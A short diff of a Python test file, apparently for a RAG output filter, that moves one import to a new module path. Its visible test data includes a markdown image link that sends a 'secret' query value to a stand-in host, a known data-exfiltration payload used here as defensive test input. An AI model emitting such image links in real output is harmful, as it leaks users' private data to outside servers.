@@ -8,7 +8,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from streamlit_markdown import PLAIN, READER, acts, fetches, runs
 
-from ragfilter.ui.prose import literal, message, quoted, written
+from ragfilter.ui.look.prose import literal, message, quoted, written
 
 FETCHES = (
     "![px](http://x/leak.png?q=secret)",
